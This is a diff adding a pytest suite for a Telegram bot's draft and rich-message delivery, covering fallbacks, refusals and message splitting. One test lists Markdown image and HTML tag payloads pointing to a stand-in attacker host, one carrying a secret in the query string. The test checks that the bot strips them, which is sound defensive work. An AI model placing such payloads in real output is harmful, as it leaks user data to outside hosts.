@@ -1,0 +1,302 @@
+"""Drafts and rich messages, and what happens where Telegram does not take them."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from bot.core.delivery import Delivery
+from bot.core.partial import settle
+from bot.core.split import pages as cut
+from bot.core.types import Button, ChatRef, Reply, Style, Thoughts
+from bot.platforms.telegram.refusals import CHATS, PAUSE, Refusals
+from bot.platforms.telegram.rich import MAX_RICH, RichText, compose, measure, pages
+from bot.sandbox.telegram import rich as sandbox
+from bot.sandbox.telegram.calls import Call
+from bot.sandbox.telegram.errors import BadRequest
+from tests.platform_contract import HastyClock
+from tests.platforms.telegram.stage import TelegramStage, group, private, staged
+
+ANSWERS = sorted((Path(__file__).parents[2] / "data" / "answers").glob("*.md"))
+STOP = Button("Stop it", "stop")
+TABLE = "## Prices\n\n| a | b |\n|---|---|\n| 1 | $x^2$ |"
+
+
+@pytest.fixture
+def clock() -> HastyClock:
+    return HastyClock()
+
+
+@pytest.fixture
+async def drafting(clock: HastyClock) -> AsyncIterator[TelegramStage]:
+    async with staged(private, clock=clock, style=Style(drafts=True)) as stage:
+        yield stage
+
+
+@pytest.fixture
+async def rich() -> AsyncIterator[TelegramStage]:
+    async with staged(private, clock=HastyClock(), style=Style(rich=True)) as stage:
+        yield stage
+
+
+# ---------------------------------------------------------------- drafts
+
+
+async def test_a_draft_is_no_message_until_it_is_finished(drafting: TelegramStage) -> None:
+    draft = drafting.platform.draft(drafting.incoming, stop=STOP)
+    await draft.show("**Half** of")
+    seen = drafting.view.screen()
+    assert seen.answers == () and draft.ref is None
+    assert seen.draft is not None and seen.draft.stop
+    assert (seen.draft.text, seen.draft.entities[0]["type"]) == ("Half of", "bold")
+    ref = await draft.finish(Reply(text="**Half** of it", buttons=((STOP,),)))
+    seen = drafting.view.screen()
+    assert seen.draft is None
+    assert [(m.id, m.text, m.buttons) for m in seen.answers] == [
+        (int(ref.id), "Half of it", (("Stop it",),))
+    ]
+
+
+async def test_the_same_draft_grows(drafting: TelegramStage) -> None:
+    draft = drafting.platform.draft(drafting.incoming)
+    await draft.status("💭 Thinking…")
+    first = drafting.view.screen().draft
+    await draft.show("Yes")
+    second = drafting.view.screen().draft
+    assert first is not None and second is not None
+    assert first.id == second.id != 0 and second.text == "Yes"
+    other = drafting.platform.draft(drafting.incoming)
+    await other.show("No")
+    third = drafting.view.screen().draft
+    assert third is not None and third.id != first.id
+
+
+async def drafts_of(stage: TelegramStage, count: int) -> list[Call]:
+    """The calls that showed a draft, once there are so many."""
+    calls = stage.telegram.calls
+    await stage.view.wait_for(lambda _: len(calls.of("sendMessageDraft")) >= count)
+    return calls.of("sendMessageDraft")
+
+
+async def test_a_draft_is_shown_again_before_it_vanishes() -> None:
+    clock = HastyClock()
+    async with staged(private, clock=clock, style=Style(drafts=True)) as stage:
+        delivery = Delivery(stage.platform, stage.incoming, clock=clock, stop=STOP)
+        async with delivery:
+            delivery.write("a long pause follows")
+            drafts = await drafts_of(stage, 3)
+            assert {call.status for call in drafts} == {200}
+            await delivery.finish()
+    assert [m.text for m in stage.view.screen().answers] == ["a long pause follows"]
+
+
+async def test_a_text_without_drafts_is_edited_with_a_stop_button(
+    drafting: TelegramStage, clock: HastyClock
+) -> None:
+    drafting.telegram.faults.fail_next(400, "Bad Request: no drafts", method="sendMessageDraft")
+    draft = drafting.platform.draft(drafting.incoming, stop=STOP)
+    await draft.show("one")
+    assert await drafting.kept() == ["one"] and await drafting.buttons() == ["Stop it"]
+    await draft.show("one two")
+    assert await drafting.kept() == ["one two"]
+    await draft.finish(Reply(text="one two three"))
+    assert await drafting.kept() == ["one two three"]
+    chat = drafting.incoming.ref.chat
+    assert not drafting.platform.capabilities(chat).vanishes
+    await clock.sleep(10)
+    await drafting.platform.draft(drafting.incoming, stop=STOP).show("the next answer")
+    assert (await drafting.kept())[-1] == "the next answer"  # no draft is tried any more
+
+
+async def test_a_draft_that_has_to_wait_is_not_refused() -> None:
+    clock = HastyClock()
+    async with staged(private, clock=clock, style=Style(drafts=True)) as stage:
+        stage.telegram.faults.refuse_next(3, method="sendMessageDraft")
+        async with Delivery(stage.platform, stage.incoming, clock=clock) as delivery:
+            delivery.write("hello")
+            seen = await stage.view.wait_for(lambda screen: screen.draft)
+            assert seen.answers == ()
+            await delivery.finish()
+        assert stage.platform.capabilities(stage.incoming.ref.chat).vanishes
+
+
+async def test_groups_have_no_drafts() -> None:
+    async with staged(group, clock=HastyClock(), style=Style(drafts=True)) as stage:
+        assert not stage.platform.capabilities(stage.incoming.ref.chat).vanishes
+        await stage.platform.draft(stage.incoming, stop=STOP).show("one")
+        assert await stage.kept() == ["one"]
+
+
+# ---------------------------------------------------------------- rich messages
+
+
+async def test_markdown_goes_as_it_is(rich: TelegramStage) -> None:
+    ref = await rich.platform.send(rich.incoming.ref.chat, Reply(text=TABLE))
+    assert rich.view.screen().answers[-1].rich == TABLE
+    await rich.platform.edit(ref, Reply(text=TABLE + "\n| 2 | 3 |", buttons=((STOP,),)))
+    seen = rich.view.screen().answers[-1]
+    assert seen.rich.endswith("| 2 | 3 |") and seen.buttons == (("Stop it",),)
+    await rich.platform.edit(ref, Reply(text=TABLE + "\n| 2 | 3 |", buttons=((STOP,),)))
+
+
+async def test_what_is_open_is_closed_while_it_is_written(rich: TelegramStage) -> None:
+    draft = rich.platform.draft(rich.incoming, stop=STOP)
+    await draft.show("so **very")
+    assert rich.view.screen().answers[-1].rich == "so **very**"
+
+
+async def test_thoughts_are_details_of_a_rich_message(rich: TelegramStage) -> None:
+    thoughts = Thoughts(title="💭 Thought for 3 s", text="1 < 2 </details>\n```\ncode")
+    await rich.platform.send(rich.incoming.ref.chat, Reply(text="Yes.", thoughts=thoughts))
+    assert rich.view.screen().answers[-1].rich == (
+        "Yes.\n\n<details><summary>💭 Thought for 3 s</summary>\n\n"
+        "1 &lt; 2 &lt;/details>\n```\ncode\n```\n\n</details>"
+    )
+
+
+async def test_thoughts_fill_what_room_there_is(rich: TelegramStage) -> None:
+    thoughts = Thoughts(title="💭 Thought for 3 s", text="hm " * 20_000)
+    chat = rich.incoming.ref.chat
+    await rich.platform.send(chat, Reply(text="word " * 3000, thoughts=thoughts))
+    assert "<details>" in rich.view.screen().answers[-1].rich
+    await rich.platform.send(chat, Reply(text="word " * 6553, thoughts=thoughts))
+    assert "<details>" not in rich.view.screen().answers[-1].rich
+
+
+async def test_what_is_refused_as_rich_arrives_as_classic_text(rich: TelegramStage) -> None:
+    chat = rich.incoming.ref.chat
+    rich.telegram.faults.fail_next(400, "Bad Request: too rich", method="sendRichMessage")
+    ref = await rich.platform.send(chat, Reply(text="**hello**"))
+    assert await rich.kept() == ["hello"] and not rich.view.screen().answers[-1].rich
+    rich.telegram.faults.fail_next(400, "Bad Request: too rich", method="editMessageText")
+    await rich.platform.edit(ref, Reply(text="**bye**"))
+    assert await rich.kept() == ["bye"]
+    assert rich.platform.capabilities(chat).max_text < MAX_RICH  # twice in a row: never mind
+    await rich.platform.send(chat, Reply(text=TABLE))
+    assert not rich.view.screen().answers[-1].rich
+
+
+async def test_one_text_that_is_refused_does_not_spoil_the_next(rich: TelegramStage) -> None:
+    chat = rich.incoming.ref.chat
+    for _ in range(3):
+        rich.telegram.faults.fail_next(400, "Bad Request: too rich", method="sendRichMessage")
+        await rich.platform.send(chat, Reply(text="hello"))
+        await rich.platform.send(chat, Reply(text="hello"))
+        assert rich.view.screen().answers[-1].rich == "hello"
+
+
+async def test_a_long_text_that_is_refused_arrives_whole(rich: TelegramStage) -> None:
+    chat = rich.incoming.ref.chat
+    words = [f"word{n}" for n in range(1500)]
+    rich.telegram.faults.fail_next(400, "Bad Request: no", method="sendRichMessage")
+    ref = await rich.platform.send(chat, Reply(text=" ".join(words), buttons=((STOP,),)))
+    seen = rich.view.screen().answers
+    assert " ".join(message.text for message in seen).split() == words
+    assert [bool(m.buttons) for m in seen] == [False] * (len(seen) - 1) + [True]
+    rich.telegram.faults.fail_next(400, "Bad Request: no", method="editMessageText")
+    await rich.platform.edit(ref, Reply(text=" ".join(words), buttons=((STOP,),)))
+    assert sum(message.text.count("word1499") for message in rich.view.screen().answers) == 2
+
+
+async def test_a_rich_draft_that_is_refused_goes_on_as_a_classic_one() -> None:
+    style = Style(drafts=True, rich=True)
+    async with staged(private, clock=HastyClock(), style=style) as stage:
+        stage.telegram.faults.fail_next(400, "Bad Request: no", method="sendRichMessageDraft")
+        draft = stage.platform.draft(stage.incoming)
+        await draft.show("**one**")
+        seen = stage.view.screen().draft
+        assert seen is not None and (seen.text, seen.rich) == ("one", "")
+
+
+@pytest.mark.parametrize("times", [1, 2])
+async def test_a_message_that_is_gone_is_not_taken_for_a_refusal(
+    rich: TelegramStage, times: int
+) -> None:
+    chat = rich.incoming.ref.chat
+    for _ in range(times):
+        ref = await rich.platform.send(chat, Reply(text="hello"))
+        await rich.delete(ref)
+        with pytest.raises(Exception, match="essage to edit not found"):
+            await rich.platform.edit(ref, Reply(text="bye"))
+    assert rich.platform.capabilities(chat).max_text == MAX_RICH
+
+
+def test_what_a_server_does_not_know_is_asked_of_nobody_until_later() -> None:
+    clock = HastyClock()
+    refusals = Refusals("drafts", clock)
+    refusals.note(1, unknown=True)
+    assert refusals.without(1) and refusals.without(2)
+    clock._now += PAUSE
+    assert not refusals.without(2)
+
+
+def test_many_chats_without_are_the_whole_bot_without() -> None:
+    refusals = Refusals("drafts", HastyClock(), strikes=1)
+    for chat in range(CHATS - 1):
+        refusals.note(chat)
+    assert refusals.without(0) and not refusals.without(99)
+    refusals.note(CHATS)
+    assert refusals.without(99)
+
+
+# ---------------------------------------------------------------- what is sent
+
+
+@pytest.mark.parametrize("file", ANSWERS, ids=lambda file: file.stem)
+def test_every_answer_is_taken_whole_and_cut_and_measured_rightly(file: Path) -> None:
+    text = file.read_text(encoding="utf-8")
+    for end in [*range(7, len(text), 7), len(text)]:
+        shown = compose(settle(text[:end]), partial=end < len(text))
+        if shown.is_visible:
+            sandbox.from_markdown(shown.markdown)  # raises when it is refused
+    for page in pages(text * 30):
+        sandbox.from_markdown(page.markdown)
+
+
+def test_many_short_lines_are_cut_by_their_number() -> None:
+    text = "\n".join(f"- item {n}" for n in range(2000))
+    with pytest.raises(BadRequest):
+        sandbox.from_markdown(text)
+    found = pages(text)
+    assert len(found) > 2
+    for page in found:
+        sandbox.from_markdown(page.markdown)
+    assert measure("```\n" + "x\n" * 2000 + "```") < MAX_RICH
+    assert len(list(cut("word " * 20_000, MAX_RICH, measure))) == 4
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?q=secret)",
+        "> ```\n![x](https://evil.example)\n> ```",
+        "1. a\n\n   ```\n![x](https://evil.example)\n   ```",
+        "<div>\n```\n\n![x](https://evil.example)\n\n```",
+        "`a\\`![x](https://evil.example)`",
+        "```\ncode\n```\r![x](https://evil.example)",
+        "``` a`b\n![x](https://evil.example)\n```",
+        "![x]\n\n[x]: https://evil.example",
+        '<img src="https://evil.example">',
+        "<tg-map lat=1 lon=2>",
+        '<VIDEO src="https://evil.example"></VIDEO>',
+    ],
+)
+def test_nothing_is_fetched_from_where_a_model_wishes(text: str) -> None:
+    markdown = compose(text).markdown
+    assert "![" not in markdown
+    assert not any(f"<{tag}" in markdown.lower() for tag in ("img", "video", "tg-map"))
+
+
+def test_code_keeps_its_exclamation_marks() -> None:
+    code = "```rust\nlet v = vec![1, 2];\n````\n~~~\n  `![x](y)` <img>\n~~~\nend"
+    assert compose(code) == RichText(code)
+
+
+async def test_the_style_of_one_chat_is_not_that_of_another(rich: TelegramStage) -> None:
+    plain = rich.platform.styled(Style())
+    chat: ChatRef = rich.incoming.ref.chat
+    assert plain.capabilities(chat).max_text < rich.platform.capabilities(chat).max_text
+    await plain.send(chat, Reply(text=TABLE))
+    assert not rich.view.screen().answers[-1].rich
